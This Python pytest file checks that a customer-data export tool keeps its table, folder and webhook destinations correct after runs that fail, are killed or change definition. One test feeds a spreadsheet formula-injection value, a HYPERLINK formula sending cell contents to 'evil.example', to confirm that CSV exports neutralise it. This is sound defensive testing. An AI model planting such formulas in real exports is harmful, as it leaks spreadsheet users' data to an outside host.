"""Destinations that failed, were cut short or were changed in between: the target is true after the next good run."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from onepool.reach import DestinationError, changes, parse, tables
from onepool.reach import runs as runner
from onepool.reach.memory import Memory

from .test_destinations import COLUMNS, NOW, SEGMENT, TABLE, World, address, target, world
from .test_webhook_destination import Receiver, receiver

__all__ = ["address", "receiver", "target", "world"]

MEMBERS = {"who": "customer_id", "segment": "segment"}
FOLDER = {"kind": "folder", "format": "parquet"}


class Killed(BaseException):
    """As kill -9: nothing is noted any more."""


def killed(world: World, monkeypatch: pytest.MonkeyPatch, where: Any, name: str, *, after: bool = False) -> None:
    """A run that ends before (or ``after``) this function does its work."""
    real: Callable[..., Any] = getattr(where, name)

    def die(*given: Any, **named: Any) -> None:
        if after:
            real(*given, **named)
        raise Killed

    with monkeypatch.context() as patched:
        patched.setattr(where, name, die)
        with pytest.raises(Killed):
            world.run()


def failing(world: World, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """A run that fails in this function of tables."""
    with monkeypatch.context() as patched:
        patched.setattr(tables, name, lambda *_, **__: (_ for _ in ()).throw(DestinationError("down")))
        assert world.run().error == "down"


def leave(world: World, customer: int) -> None:
    world.sql(f"DELETE FROM customer_of WHERE customer_id = {customer}")


def exported(world: World, name: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pq.read_table(world.ws.root / "exports" / name).to_pylist()
    return found


@pytest.mark.parametrize("step", ["write", "_merge"])
def test_what_was_pending_as_changes_is_not_taken_for_everything(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    world.save(mode="changes", to=TABLE)
    world.good()
    world.customer(1, "北京", vip=True)
    failing(world, monkeypatch, step)
    world.save(mode="full", to=TABLE)
    assert world.good().rows == 3
    assert target("SELECT customer_id, city FROM people ORDER BY customer_id") == [
        (1, "北京"), (2, "杭\"州,\n"), (3, ""),
    ]  # fmt: skip


@pytest.mark.parametrize("step", ["write", "_merge"])
def test_a_corrected_segment_sends_nobody_of_the_old_one(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    world.sql("INSERT INTO segment_members VALUES (2, 'other', $at)", at=NOW)
    world.save(what="members", segments=["vip"], mode="changes", to=TABLE, columns=MEMBERS)
    failing(world, monkeypatch, step)
    world.save(what="members", segments=["other"], mode="changes", to=TABLE, columns=MEMBERS)
    world.good()
    assert target("SELECT who, segment FROM people") == [(2, "other")]


def test_what_was_written_of_the_old_segment_is_taken_out(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    world.save(what="members", segments=["vip"], mode="changes", to=TABLE, columns=MEMBERS)
    killed(world, monkeypatch, changes, "keep")
    assert target("SELECT who, segment FROM people") == [(1, "vip")]
    world.save(what="members", segments=["other"], mode="changes", to=TABLE, columns=MEMBERS)
    assert world.good().gone == 1
    assert target("SELECT who, segment FROM people") == []


def test_a_webhook_is_told_of_the_new_segment_under_keys_of_its_own(
    world: World, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ONEPOOL_TEST_SECRET", "shared")
    url = f"http://127.0.0.1:{receiver.server_address[1]}/in"
    settings = {"verify": "token", "secret": "env:ONEPOOL_TEST_SECRET", "url": url}
    world.ws.save("touchpoint", "partner", {"channel": "webhook", "settings": settings}, author="test")
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    world.sql("INSERT INTO segment_members VALUES (2, 'other', $at)", at=NOW)
    form: dict[str, Any] = {"what": "members", "columns": MEMBERS, "mode": "changes"}
    form["to"] = {"kind": "webhook", "touchpoint": "partner"}
    world.save(**form, segments=["vip"])
    receiver.status = 503
    assert world.run().failed
    receiver.status = 200
    world.save(**form, segments=["other"])
    world.good()
    told = [(headers["idempotency-key"], body["content"]["body"]) for headers, body in receiver.taken[1:]]
    assert [(key, body["upsert"], body["delete"]) for key, body in told] == [
        ("crm-1.1-0", [{"segment": "other", "who": 2}], []),
        ("crm-1.1-1", [], [{"segment": "vip", "who": 1}]),
    ]


@pytest.mark.parametrize("mode", ["changes", "full"])
def test_a_table_of_the_brands_own_is_never_overwritten(world: World, target: Any, mode: str) -> None:
    target("CREATE TABLE people (customer_id BIGINT PRIMARY KEY, city VARCHAR(50))")
    target("INSERT INTO people VALUES (1, 'theirs'), (77, 'theirs')")
    columns = {"customer_id": "customer_id", "city": "attribute.city"}
    world.save(mode=mode, to=TABLE, columns=columns)
    for _ in range(3):
        assert "rows that were not written from here" in world.run(force=True).error
        assert target("SELECT * FROM people ORDER BY customer_id") == [(1, "theirs"), (77, "theirs")]
    world.save(mode="changes", to={**TABLE, "adopt": True}, columns=columns)
    assert world.good().rows == 3
    world.save(mode=mode, to=TABLE, columns=columns)
    assert "rows that were not written from here" in world.run(force=True).error, "adopted is not ours"
    assert len(target("SELECT * FROM people")) == 4


@pytest.mark.parametrize("address", ["sqlite"], indirect=True)
def test_another_database_behind_the_same_reference_is_not_ours(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    world.save(to=TABLE)
    world.good()
    other = create_engine(f"sqlite:///{tmp_path / 'other.sqlite'}", poolclass=NullPool)
    with other.begin() as connection:
        names = ", ".join(f"{name} TEXT" for name in COLUMNS if name != "customer_id")
        connection.execute(text(f"CREATE TABLE people (customer_id BIGINT PRIMARY KEY, {names})"))
        connection.execute(text("INSERT INTO people (customer_id) VALUES (77)"))
    monkeypatch.setenv("ONEPOOL_TEST_TARGET", f"sqlite:///{tmp_path / 'other.sqlite'}")
    assert "rows that were not written from here" in world.run().error


@pytest.mark.parametrize("mode", ["changes", "full"])
def test_a_first_run_that_was_killed_is_done_again(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    world.save(mode=mode, to=TABLE)
    killed(world, monkeypatch, changes, "keep")
    assert len(target("SELECT * FROM people")) == 3
    world.good()
    assert len(target("SELECT * FROM people")) == 3


def test_a_run_killed_before_it_is_noted_writes_the_same_file_again(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.save(mode="changes", to=FOLDER)
    world.good()
    world.customer(1, "北京", vip=True)
    killed(world, monkeypatch, runner, "_end")
    world.customer(2, "苏州")
    assert world.good().rows == 1
    told = [(row["customer_id"], row["city"]) for row in exported(world, "crm-00000002.parquet")]
    assert told == [(1, "北京")]
    assert world.good().where == "exports/crm-00000003.parquet"
    assert [row["customer_id"] for row in exported(world, "crm-00000003.parquet")] == [2]


def test_a_file_of_another_definition_is_not_written_over(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    form: dict[str, Any] = {"what": "members", "columns": MEMBERS, "mode": "changes", "to": FOLDER}
    world.save(**form, segments=["vip"])
    killed(world, monkeypatch, runner, "_end")
    world.save(**form, segments=["other"])
    assert world.good().where == "exports/crm-00000001_1.parquet"
    assert exported(world, "crm-00000001_1.parquet") == [{"who": 1, "segment": "vip", "change_kind": "delete"}]
    world.sql("INSERT INTO segment_members VALUES (2, 'other', $at)", at=NOW)
    assert world.good().where == "exports/crm-00000002.parquet"
    assert exported(world, "crm-00000002.parquet") == [{"who": 2, "segment": "other", "change_kind": "upsert"}]


@pytest.mark.parametrize("segments", [["vip"], ["other"]])
def test_segment_changes_go_out_whenever_a_run_is_killed(
    world: World, monkeypatch: pytest.MonkeyPatch, segments: list[str]
) -> None:
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    form: dict[str, Any] = {"what": "changes", "mode": "changes", "to": FOLDER}
    form["columns"] = {"n": "change_id", "c": "customer_id", "s": "segment"}
    insert = "INSERT INTO segment_changes VALUES ($n, 1, $segment, 'enter', $at)"
    world.save(**form, segments=["vip", "other"])
    world.sql(insert, n=1, segment="vip", at=NOW)
    world.good()
    for number, segment in ((2, "vip"), (3, "other")):
        world.sql(insert, n=number, segment=segment, at=NOW)
    killed(world, monkeypatch, runner, "_end")
    world.save(**{**form, "columns": {**form["columns"], "at": "at"}}, segments=["vip", "other"])
    world.save(**form, segments=[*segments, "vip"])
    where = world.good().where
    told = {(row["n"], row["change_kind"]) for row in exported(world, where.removeprefix("exports/"))}
    assert told == ({(2, "upsert"), (3, "delete")} if segments == ["vip"] else {(2, "upsert"), (3, "upsert")})


def test_segment_changes_in_files_are_never_replaced(world: World) -> None:
    columns = {"n": "change_id", "c": "customer_id", "s": "segment"}
    world.save(what="changes", mode="full", columns=columns, to=FOLDER)
    for number in (1, 2):
        world.sql("INSERT INTO segment_changes VALUES ($n, $n, 'vip', 'enter', $at)", n=number, at=NOW)
        world.good()
    world.good()
    found = [exported(world, f"crm-{number:08d}.parquet") for number in (1, 2, 3)]
    assert found == [[{"n": 1, "c": 1, "s": "vip"}], [{"n": 2, "c": 2, "s": "vip"}], []]


@pytest.mark.parametrize("change", ["columns", "gone", "adopt"])
def test_who_left_is_taken_out_though_the_definition_changed(world: World, target: Any, change: str) -> None:
    world.save(mode="changes", to=TABLE, gone="keep" if change == "gone" else "delete")
    world.good()
    leave(world, 2)
    form: dict[str, Any] = {"mode": "changes", "to": TABLE}
    if change == "columns":
        form["columns"] = {name: source for name, source in COLUMNS.items() if name != "seen"}
    elif change == "adopt":
        form["to"] = {**TABLE, "adopt": True}
    world.save(**form)
    assert world.good().gone == 1
    assert target("SELECT customer_id FROM people ORDER BY customer_id") == [(1,), (3,)]


def test_a_new_password_is_no_new_target(world: World, target: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    world.save(mode="changes", to=TABLE)
    world.good()
    leave(world, 2)
    monkeypatch.setenv("ONEPOOL_TEST_ANEW", os.environ["ONEPOOL_TEST_TARGET"])
    world.save(mode="changes", to={**TABLE, "url": "env:ONEPOOL_TEST_ANEW"})
    assert world.good().gone == 1
    assert target("SELECT customer_id FROM people ORDER BY customer_id") == [(1,), (3,)]


@pytest.mark.parametrize("address", ["sqlite"], indirect=True)
@pytest.mark.parametrize("step", ["begin", "begin-after", "merge", "write-after", "keep", "keep-after", "end", "tidy"])
@pytest.mark.parametrize("then", ["same", "full", "columns", "segments"])
def test_killed_at_any_step_and_changed_the_table_is_true(
    world: World, target: Any, monkeypatch: pytest.MonkeyPatch, step: str, then: str
) -> None:
    world.ws.save("segment", "other", {**SEGMENT, "segment": "other"}, author="test")
    world.sql("INSERT INTO segment_members VALUES (2, 'other', $at), (3, 'vip', $at)", at=NOW)
    form: dict[str, Any] = {"what": "members", "mode": "changes", "to": TABLE, "segments": ["vip"]}
    form["columns"] = {**MEMBERS, "city": "attribute.city", "phone": "identifier.phone"}
    world.save(**form)
    world.good()
    world.customer(1, "北京", vip=True)
    world.sql("DELETE FROM segment_members WHERE customer_id = 3")
    world.customer(4, "苏州", vip=True)
    name, _, after = step.partition("-")
    where = {"begin": Memory, "merge": tables, "write": tables, "keep": changes, "end": runner}
    real = {"merge": "_merge", "end": "_end"}.get(name, name)
    killed(world, monkeypatch, where.get(name, Memory), real, after=bool(after))
    world.customer(1, "上海", vip=True)  # as it was before the run that was killed
    leave(world, 4)
    world.sql("DELETE FROM segment_members WHERE customer_id = 4")
    columns = {name: source for name, source in form["columns"].items() if name != "phone"}
    altered: dict[str, dict[str, Any]] = {
        "same": {}, "full": {"mode": "full"}, "columns": {"columns": columns}, "segments": {"segments": ["other"]},
    }  # fmt: skip
    form.update(altered[then])
    world.save(**form)
    for _ in range(2):
        world.good()
    truth = [(2, "other", '杭"州,\n')] if then == "segments" else [(1, "vip", "上海")]
    assert target("SELECT who, segment, city FROM people") == truth
    left = sorted(one.suffix for one in (world.ws.data / "destinations").iterdir())
    assert left == [".lock", ".ours", ".parquet"]


def test_digests_that_are_not_of_the_last_writing_are_not_believed(world: World) -> None:
    body = parse({"destination": "crm", "what": "profiles", "columns": {"c": "customer_id"}, "to": FOLDER})
    other = parse({**body.model_dump(), "columns": {"c": "customer_id", "seen": "last_seen"}})
    folder = world.ws.data / "destinations"
    folder.mkdir(exist_ok=True)
    now, before = Memory.of(folder, body, [other]), Memory.of(folder, other, [body])
    now.written.touch()
    os.utime(now.written, (time.time() - 5,) * 2)
    assert (now.current, before.current) == (True, False)
    before.written.touch()
    assert (now.current, before.current) == (False, True)
    assert now.digests() == [now.written, before.written]


@pytest.mark.parametrize("address", ["postgres", "mariadb"], indirect=True)
def test_long_ids_and_ids_in_capitals_go_out(world: World, target: Any) -> None:
    put = """INSERT INTO orders BY NAME SELECT $order AS order_id, 'shop' AS touchpoint, 1 AS identifier_id,
        $at AS placed_at"""
    world.save(what="orders", mode="changes", to=TABLE, columns={"o": "order_id", "t": "touchpoint"})
    ids = ["ab1", "AB1", "x" * 300, "单" * 512]
    for one in ids:
        world.sql(put, order=one, at=NOW)
    assert (world.good().rows, world.good().rows) == (4, 0)
    assert {one for (one,) in target("SELECT o FROM people")} == set(ids)


@pytest.mark.parametrize("address", ["postgres", "mariadb"], indirect=True)
def test_ids_too_long_for_a_table_that_is_there_stop_no_others(world: World, target: Any) -> None:
    target("CREATE TABLE people (o VARCHAR(191) NOT NULL, t VARCHAR(191) NOT NULL, PRIMARY KEY (o, t))")
    put = """INSERT INTO orders BY NAME SELECT $order AS order_id, 'shop' AS touchpoint, 1 AS identifier_id,
        $at AS placed_at"""
    world.save(what="orders", mode="changes", to=TABLE, columns={"o": "order_id", "t": "touchpoint"})
    for one in ("a", "x" * 300, "b"):
        world.sql(put, order=one, at=NOW)
    outcome = world.good()
    assert (outcome.rows, outcome.total) == (2, 2)
    assert outcome.where == "people; 1 rows left out, their keys are longer than its columns"
    assert target("SELECT o FROM people ORDER BY o") == [("a",), ("b",)]
    target("ALTER TABLE people ALTER COLUMN o TYPE TEXT" if "postgres" in os.environ["ONEPOOL_TEST_TARGET"]
           else "ALTER TABLE people MODIFY o VARCHAR(512) NOT NULL")  # fmt: skip
    assert world.good().where == "people"
    assert len(target("SELECT o FROM people")) == 3


@pytest.mark.parametrize("address", ["postgres"], indirect=True)
def test_what_the_database_refuses_is_put_in_words(world: World, target: Any) -> None:
    target("CREATE TABLE people (customer_id SMALLINT PRIMARY KEY, city VARCHAR(2))")
    world.customer(4, "text \0 of nothing")
    world.save(mode="changes", to=TABLE, columns={"customer_id": "customer_id", "city": "attribute.city"})
    error = world.run().error
    assert error == "table people: the database: CharacterNotInRepertoire (22021)"


def test_csv_holds_no_live_formulas(world: World) -> None:
    world.customer(1, '=HYPERLINK("http://evil.example/?"&A1,"x")', name="@SUM(1)")
    world.customer(2, "＝1+1", name="-5")
    world.save(to={"kind": "folder", "format": "csv"})
    world.good()
    rows = pacsv.read_csv(world.ws.root / "exports" / "crm.csv").to_pylist()
    assert [row["city"] for row in rows[:2]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'＝1+1"]
    assert [row["姓名"] for row in rows[:2]] == ["'@SUM(1)", "-5"]
    raw = (world.ws.root / "exports" / "crm.csv").read_text(encoding="utf-8-sig")
    assert '"+8613800000001"' in raw, "a number is no formula"
    world.save(to=FOLDER)
    world.good()
    assert exported(world, "crm.parquet")[0]["姓名"] == "@SUM(1)"
    assert json.dumps(exported(world, "crm.parquet")[1]["city"]) == '"\\uff1d1+1"'
